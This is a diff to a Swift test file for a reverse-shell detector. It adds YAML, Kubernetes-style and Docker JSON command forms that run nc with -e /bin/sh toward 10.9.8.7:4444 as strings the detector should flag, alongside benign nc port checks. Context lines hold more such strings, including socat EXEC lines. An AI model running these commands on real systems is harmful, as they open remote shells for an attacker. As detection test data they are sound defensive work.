@@ -37,6 +37,10 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     ("subprocess.call(['/bin/nc', '10.9.8.7', '4444', '-e', '/bin/sh'])", "nc"),
     ("CMD [\"ncat\",\"--exec\",\"/bin/bash\",\"10.9.8.7\",\"4444\"]", "nc"),
     ("type=EXECVE msg=audit(1.1:1): argc=5 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"10.9.8.7\" a4=\"4444\"", "nc"),
+    ("args:\n  - nc\n  - -e\n  - /bin/sh\n  - 10.9.8.7\n  - \"4444\"\nports:\n  - 80", "nc"),
+    ("command:\n- /bin/nc\n- \"10.9.8.7\"\n- \"4444\"\n- -e\n- sh", "nc"),
+    ("\"Cmd\": [\n  \"nc\",\n  \"-e\",\n  \"/bin/sh\",\n  \"10.9.8.7\",\n  \"4444\"\n],", "nc"),
+    ("\"Path\": \"nc\",\n\"Args\": [\n  \"-e\",\n  \"/bin/sh\",\n  \"10.9.8.7\",\n  \"4444\"\n],", "nc"),
     // Quotes around the far end.
     ("socat TCP:\"10.9.8.7\":4444 EXEC:/bin/sh", "socat"),
     (
@@ -57,7 +61,10 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "nc 10.0.0.5 9000 | while :; do sh parse.sh; done", "nc 10.0.0.5 9000 | $(which jq) .",
     "[\"nc\",\"-zv\",\"10.0.0.5\",\"4444\"]", "test: [\"CMD\", \"nc\", \"-z\", \"db\", \"5432\"]",
     "a0=\"nc\" a1=\"-l\" a2=\"9000\"", "nc 10.0.0.5 9000>sh", "tools: \"nc\", \"bash\", \"10.0.0.5\", \"4444\"",
-    "telnetd -l /bin/login -p 23", "ftp stream tcp nowait root /usr/sbin/tcpd in.ftpd",
+    "command:\n- nc\n- -z\n- 10.0.0.5\n- \"4444\"\n- sh", "ncat -l 2323 -c 'cat /etc/motd'; vim -c ':!bash'",
+    "ncat 10.0.0.5 2323 -c 'date' | tee log; sh -c 'bash -i'",
+    "telnetd -l /bin/login -p 23",
+    "ftp stream tcp nowait root /usr/sbin/tcpd in.ftpd",
     "9000 stream tcp nowait nobody /bin/sh sh /opt/serve.sh",
   ])
   func aTransferHasNone(text: String) { #expect(shells(text).isEmpty) }
